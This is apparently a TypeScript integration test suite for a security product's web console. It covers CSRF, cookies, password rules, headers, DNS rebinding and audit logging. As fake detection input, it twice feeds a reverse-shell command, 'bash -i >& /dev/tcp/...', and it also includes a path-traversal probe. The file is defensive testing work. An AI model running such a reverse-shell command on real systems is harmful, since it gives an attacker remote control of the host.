/** The console port over real HTTP: who may call what, what browsers are protected from, what is written down. */
import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { request as secureRequest } from 'node:https'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { Database } from '@rampart/alert'
import { until } from '../../../../test/until.ts'
import { openUsers } from '../index.ts'
import { migrations } from '../store/migrations.ts'
import { People } from '../store/people.ts'
import { roles } from '../store/user-record.ts'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer, temporaryDirectory } from '../testing/test-server.ts'
import { openApiDocument } from './openapi.ts'
import { hashPassword } from './passwords.ts'

const password = 'correct horse battery'
let shared: TestServer
let admin: TestConsole
let alertId = ''
const consoleDirectory = join(temporaryDirectory(), 'dist')

before(async () => {
  mkdirSync(join(consoleDirectory, 'static'), { recursive: true })
  writeFileSync(join(consoleDirectory, 'index.html'), '<!doctype html><title>Rampart</title>')
  writeFileSync(join(consoleDirectory, 'static', 'app-1.js'), 'export {}')
  shared = await startTestServer({ consoleDirectory, names: ['rampart.example.com'] })
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' }, password)
  await withPeople(async (people) => {
    for (const role of roles) people.add(role, role, await hashPassword(password), false, Date.now())
  })
  const agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
  await agent.deliver(1, [agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/1')])
  agent.cut()
  alertId = (await admin.call('listAlerts')).body.items[0].id
})
after(() => shared?.end())

async function withPeople<T>(body: (people: People) => T | Promise<T>): Promise<T> {
  const opened = Database.open(join(shared.directory, 'state', 'rampart.db'), migrations)
  assert.ok(opened.ok)
  const result = await body(new People(opened.database))
  opened.database.close()
  return result
}

/** A request with any headers, also those that fetch keeps to itself. */
function raw(url: string, headers: Record<string, string>, method = 'GET'): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const open = url.startsWith('https') ? secureRequest : request
    const call = open(url, { method, headers, rejectUnauthorized: false } as object, (response) => {
      let body = ''
      response.on('data', (chunk) => {
        body += chunk
      })
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }))
    })
    call.on('error', reject)
    call.end()
  })
}

test('a change needs the token of the session and must not come from another site', async () => {
  const browser = new TestConsole(shared.server.consoleUrl)
  await browser.signIn('analyst', password)
  const path = `/api/v1/alerts/${alertId}/handling`
  const body = { operation: 'ignore', version: 0 }
  const token = browser.csrf
  browser.csrf = ''
  assert.equal((await browser.fetch('POST', path, body)).body.code, 'request.csrf')
  assert.equal((await browser.fetch('POST', path, body, { 'x-rampart-csrf': `${token}x` })).body.code, 'request.csrf')
  browser.csrf = token
  const cross = await browser.fetch('POST', path, body, { 'sec-fetch-site': 'cross-site' })
  assert.equal(cross.body.code, 'request.cross-site')
  assert.equal((await browser.fetch('POST', path, body)).body.code, 'alert.changed')
  const login = await browser.fetch(
    'POST',
    '/api/v1/session',
    { username: 'a', password: 'b' },
    { 'sec-fetch-site': 'cross-site' },
  )
  assert.equal(login.body.code, 'request.cross-site')
})

test('the first password must be changed before anything else, and works once', async (t) => {
  const own = await startTestServer()
  t.after(own.end)
  const first = own.server.firstUser
  assert.ok(first)
  const kept = join(own.directory, 'state', 'first-password')
  assert.equal(statSync(kept).mode & 0o777, 0o600)
  await own.restart()
  assert.deepEqual(own.server.firstUser, first, 'the same until somebody signed in')
  const browser = new TestConsole(own.server.consoleUrl)
  assert.equal((await browser.signIn('admin', first.password)).body.mustChangePassword, true)
  assert.equal((await browser.call('listAlerts')).body.code, 'session.password-change-required')
  assert.equal((await browser.fetch('GET', '/api/v1/stream')).status, 401)
  const change = (current: string, next: string) => browser.call('changePassword', { body: { current, next } })
  assert.equal((await change('wrong', 'a long enough one')).body.code, 'session.wrong-password')
  assert.equal((await change(first.password, 'short')).body.code, 'request.invalid')
  assert.equal((await change(first.password, first.password)).body.code, 'session.password-reused')
  const before = browser.cookie
  assert.equal((await change(first.password, 'a long enough one')).body.mustChangePassword, false)
  assert.notEqual(browser.cookie, before, 'a new session')
  assert.equal(existsSync(kept), false)
  const old = new TestConsole(own.server.consoleUrl)
  assert.equal((await old.fetch('GET', '/api/v1/session', undefined, { cookie: before })).status, 401)
  assert.equal((await old.signIn('admin', first.password)).body.code, 'session.wrong-password')
  await own.restart()
  assert.equal(own.server.firstUser, null)
})

test('the cookie is out of reach for scripts and other sites; signing out ends the session', async () => {
  const browser = new TestConsole(shared.server.consoleUrl)
  const answer = await browser.signIn('viewer', password)
  const cookie = answer.headers.getSetCookie()[0] ?? ''
  const known = answer.headers.getSetCookie().find((one) => one.startsWith('rampart_browser=')) ?? ''
  assert.match(known, /Path=\/api\/v1\/session; HttpOnly; SameSite=Strict/)
  assert.match(cookie, /HttpOnly/)
  assert.match(cookie, /SameSite=Strict/)
  assert.doesNotMatch(cookie, /Secure/)
  const kept = browser.cookie
  assert.equal((await browser.call('signOut')).status, 200)
  assert.equal((await browser.fetch('GET', '/api/v1/session', undefined, { cookie: kept })).status, 401)
})

test('who is locked out gets a new one-time password from the state directory', async (t) => {
  const own = await startTestServer()
  t.after(own.end)
  const browser = new TestConsole(own.server.consoleUrl)
  await browser.begin(own.server.firstUser ?? { name: '', password: '' })
  const state = join(own.directory, 'state')
  const users = openUsers(state)
  assert.ok(users.ok)
  const reset = await users.value.resetPassword('ADMIN')
  assert.ok(reset.ok)
  assert.equal((await browser.call('getSession')).body.code, 'session.missing')
  assert.equal((await browser.signIn('admin', reset.value.password)).body.mustChangePassword, true)
  const unknown = await users.value.resetPassword('nobody')
  assert.equal(!unknown.ok && unknown.error.code, 'user.not-found')
  const last = users.value.change('admin', { disabled: true })
  assert.equal(!last.ok && last.error.code, 'user.last-administrator')
  users.value.close()
  const nowhere = openUsers(join(state, 'nowhere'))
  assert.equal(!nowhere.ok && nowhere.error.code, 'state.directory-unusable')
})

test('guessing passwords is slowed down, and a wrong name looks like a wrong password', async (t) => {
  const own = await startTestServer()
  t.after(own.end)
  const browser = new TestConsole(own.server.consoleUrl)
  const codes: string[] = []
  for (let attempt = 0; attempt < 12; attempt++)
    codes.push((await browser.signIn('admin', `guess ${attempt}`)).body.code)
  assert.deepEqual(
    [codes[0], codes[9], codes[10]],
    ['session.wrong-password', 'session.wrong-password', 'session.too-many-tries'],
  )
  const [one, other] = [await browser.signIn('nobody', 'x'), await browser.signIn('nobody-else', 'x')]
  assert.deepEqual(one.body, other.body)
  assert.equal(one.body.code, 'session.wrong-password')
})

test('headers: no scripts but our own, no frames, no caching of answers', async () => {
  const page = await admin.fetch('GET', '/', undefined, { accept: 'text/html' })
  const policy = page.headers.get('content-security-policy') ?? ''
  assert.match(policy, /script-src 'self'(;|$)/)
  assert.match(policy, /frame-ancestors 'none'/)
  assert.equal(page.headers.get('x-content-type-options'), 'nosniff')
  assert.equal(page.headers.get('cache-control'), 'no-cache')
  assert.equal((await admin.call('getSummary')).headers.get('cache-control'), 'no-store')
})

test('the console: index for every page of it, files with their digest for ever, nothing outside', async () => {
  const get = (path: string, accept = 'text/html') => admin.fetch('GET', path, undefined, { accept })
  assert.match((await get('/')).body, /<title>Rampart/)
  assert.match((await get('/alerts/al-1?x=1')).body, /<title>Rampart/)
  const asset = await get('/static/app-1.js', '*/*')
  assert.equal(asset.status, 200)
  assert.match(asset.headers.get('cache-control') ?? '', /immutable/)
  assert.equal((await get('/static/gone.js')).status, 404)
  assert.equal((await get('/api/v1/nothing')).body.code, 'request.not-found')
  const outside = await raw(`${shared.server.consoleUrl}/..%2f..%2fstate%2frampart.db`, {})
  assert.ok(outside.status >= 400)
})

test('only our own names are answered (DNS rebinding)', async () => {
  const status = async (host: string) => (await raw(`${shared.server.consoleUrl}/health/live`, { host })).status
  assert.equal(await status('rampart.example.com:7350'), 200)
  assert.equal(await status('localhost'), 200)
  assert.equal(await status('[::1]:7350'), 200)
  assert.equal(await status('attacker.example.org'), 421)
  assert.equal(await status('localhost.attacker.example.org'), 421)
})

test('wrong input is refused with its place', async () => {
  const body = async (query: string) => (await admin.call('listAlerts', { query })).body
  assert.deepEqual(
    [(await body('level=Huge')).code, (await body('level=Huge')).path],
    ['request.invalid', 'query.level'],
  )
  assert.equal((await body('limit=100000')).path, 'query.limit')
  assert.equal((await body('from=yesterday')).path, 'query.from')
  assert.equal((await body('level=Urgent&level=Notice')).total, 1)
  assert.equal((await body('q=%25')).total, 0)
  assert.equal((await body('cursor=!!')).items.length, 1)
  const broken = await fetch(`${shared.server.consoleUrl}/api/v1/session`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{',
  })
  assert.equal(((await broken.json()) as { code: string }).code, 'request.invalid')
  const large = await admin.fetch('POST', '/api/v1/session', { username: 'x'.repeat(2_000_000), password: '' })
  assert.equal(large.status, 413)
})

test('switches: off means that nothing is raised, and what was decided is kept', async (t) => {
  const own = await startTestServer()
  t.after(own.end)
  const browser = new TestConsole(own.server.consoleUrl)
  await browser.begin(own.server.firstUser ?? { name: '', password: '' })
  const items = (await browser.call('listDefenceItems')).body.items
  assert.equal(items.length, 21)
  assert.deepEqual(
    items
      .filter((item: { enabled: boolean }) => !item.enabled)
      .map((item: { id: string }) => item.id)
      .sort(),
    ['application-whitelist', 'k8s-abnormal-behavior', 'tamper-protection'],
  )
  await browser.call('switchDefenceItem', { id: 'suspicious-process', body: { enabled: false } })
  assert.deepEqual((await browser.call('getSummary')).body.defenceItems, { enabled: 17, all: 21 })
  const agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
  await agent.connect()
  const attack = 'bash -i >& /dev/tcp/198.51.100.1/1'
  await agent.deliver(1, [agent.started(1, attack)])
  assert.equal((await browser.call('listAlerts')).body.total, 0)
  await browser.call('switchDefenceItem', { id: 'suspicious-process', body: { enabled: true } })
  const model = '5b3c1f3e-0001-4000-8000-000000000001'
  assert.equal((await browser.call('switchModel', { id: model, body: { enabled: false } })).body.enabled, false)
  await agent.deliver(2, [agent.started(2, attack)])
  assert.equal((await browser.call('listAlerts')).body.total, 0)
  agent.cut()
  await own.restart()
  const again = new TestConsole(own.server.consoleUrl)
  await again.signIn('admin', 'a new and long password')
  assert.equal((await again.call('getModel', { id: model })).body.enabled, false)
  await again.call('switchModel', { id: model, body: { enabled: true } })
  const list = (await again.call('listModels')).body
  assert.equal(list.items.length, own.server.models.loaded)
  assert.equal(list.techniques['T1059.004'].name, 'Unix Shell')
})

test('assets: filters, paging, the token for a new server', async () => {
  const assets = async (query: string) => (await admin.call('listAssets', { query })).body
  assert.equal((await assets('alerting=yes')).total, 1)
  assert.equal((await assets('alerting=no')).total, 0)
  assert.equal((await assets('q=web-1%20192.0.2.10')).total, 1)
  assert.equal((await assets('q=nothing')).total, 0)
  assert.equal((await assets('state=silent')).total, 0)
  assert.deepEqual((await assets('')).items[0].alerts, { Urgent: 1, Warning: 0, Notice: 0 })
  const made = (await admin.call('createEnrolmentToken', { body: { uses: 2, minutes: 5 } })).body
  await enrolAgent(made.token)
  assert.match(made.command, /^RAMPART_ENROLMENT_TOKEN=rampart1\.[\w.-]+ \.\/rampart agent run$/)
})

test('everything that changes leaves a row, without secrets', async () => {
  await admin.call('createEnrolmentToken', { body: { uses: 1, minutes: 5 } })
  const [asset] = (await admin.call('listAssets')).body.items
  const receiver = { kind: 'http', listen: '127.0.0.1:8088', token: 'receiver-token-0123456789' }
  const body = { defaultLogs: true, logs: [], receivers: [receiver] }
  assert.equal((await admin.call('setCollection', { id: asset.id, body })).status, 200)
  const wrong = new TestConsole(shared.server.consoleUrl)
  await wrong.signIn('viewer', 'not the password')
  const rows = await withPeople((people) => people.trail.list({}, 500))
  const actions = new Set(rows.map((row) => row.action))
  for (const action of ['signIn', 'changePassword', 'createEnrolmentToken', 'setCollection', 'agent.enrolled'])
    assert.ok(actions.has(action), action)
  assert.ok(
    rows.some(
      (row) => row.action === 'signIn' && row.actor === 'viewer' && row.detail?.refused === 'session.wrong-password',
    ),
  )
  const text = JSON.stringify(rows)
  assert.doesNotMatch(text, /not the password|correct horse|rampart1\.|receiver-token/)
})

test('the API describes itself: what is served is the document that openapi.test.ts checks', async () => {
  const { status, body } = await admin.fetch('GET', '/api/v1/openapi.json')
  assert.equal(status, 200)
  assert.deepEqual(body, JSON.parse(JSON.stringify(openApiDocument(body.info.version))))
})

test('health and metrics', async () => {
  assert.deepEqual((await admin.fetch('GET', '/health/ready')).body, { ok: true, problems: [] })
  const metrics = (await admin.fetch('GET', '/metrics')).body
  assert.match(metrics, /rampart_events_received_total\{type="process.started"\} 1/)
  assert.match(metrics, /rampart_alerts_raised_total\{level="Urgent"\} 1/)
  assert.match(metrics, /rampart_pipeline_stage_seconds_count\{stage="archive"\} [1-9]/)
  assert.match(metrics, /rampart_agents\{state="[a-z ]+"\} 1/)
})

test('other addresses than loopback get TLS, and the session cookie is then Secure', async (t) => {
  const own = await startTestServer({ listen: '0.0.0.0:0', names: ['127.0.0.1'] })
  t.after(own.end)
  assert.match(own.server.consoleUrl, /^https:\/\/127\.0\.0\.1:/)
  assert.equal((await raw(`${own.server.consoleUrl}/health/live`, {})).status, 200)
  const authority = readFileSync(join(own.directory, 'state', 'authority', 'authority.pem'), 'utf8')
  await new Promise<void>((resolve, reject) => {
    secureRequest(`${own.server.consoleUrl}/health/live`, { ca: authority }, (response) => {
      response.resume()
      response.on('end', resolve)
    })
      .on('error', reject)
      .end()
  })
})

test('a browser that comes back gets what it missed; signing out ends its stream', async () => {
  const browser = new TestConsole(shared.server.consoleUrl)
  await browser.signIn('analyst', password)
  const seen: { name: string; id: string }[] = []
  const first = await browser.stream((name, _data, id) => seen.push({ name, id }))
  const note = async () => {
    const { version } = (await browser.call('getAlert', { id: alertId })).body
    await browser.call('handleAlert', { id: alertId, body: { operation: 'add note', version, note: 'seen' } })
  }
  await note()
  await until('the update', () => seen.some((message) => message.name === 'alert.updated'))
  const last = seen.findLast((message) => message.id !== '')?.id ?? ''
  await first.stop()
  await note()
  const missed: string[] = []
  const second = await browser.stream((name) => missed.push(name), last)
  await until('the missed update', () => missed.includes('alert.updated'))
  await second.stop()
  const third = await browser.stream(() => {}, 'not-an-id-of-ours')
  assert.equal(third.response.status, 200)
  await browser.call('signOut')
  await third.ended
})
